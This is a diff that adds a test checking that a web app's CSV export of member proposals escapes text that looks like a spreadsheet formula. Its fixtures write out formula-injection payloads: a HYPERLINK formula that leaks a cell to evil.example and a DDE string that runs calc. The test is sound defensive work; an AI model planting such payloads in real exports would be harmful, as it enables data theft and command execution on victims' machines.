@@ -223,3 +223,21 @@ def test_the_page_opens_on_its_default_period_and_its_menu_says_so(client):
     client.force_login(UserFactory(moderator=True))
     page = client.get("/insight/").content.decode()
     assert '<option value="12" selected>' in page
+
+
+def test_member_text_that_looks_like_a_formula_is_never_one_in_a_csv(moderator_client):
+    """A spreadsheet runs a cell starting with = + - @: an export keeps such text as text."""
+    import csv
+    import io
+
+    from proposals.tests.factories import make_proposal
+
+    proposer = UserFactory(display_name='=HYPERLINK("https://evil.example/?"&A1,"x")')
+    make_proposal(proposer=proposer, title="+cmd|' /C calc'!A0", summary="-2+3")
+    response = moderator_client.get(reverse("insight:export", args=["proposals", "csv"]))
+    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'+cmd|' /C calc'!A0" in cells
+    assert "'-2+3" in cells
+    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
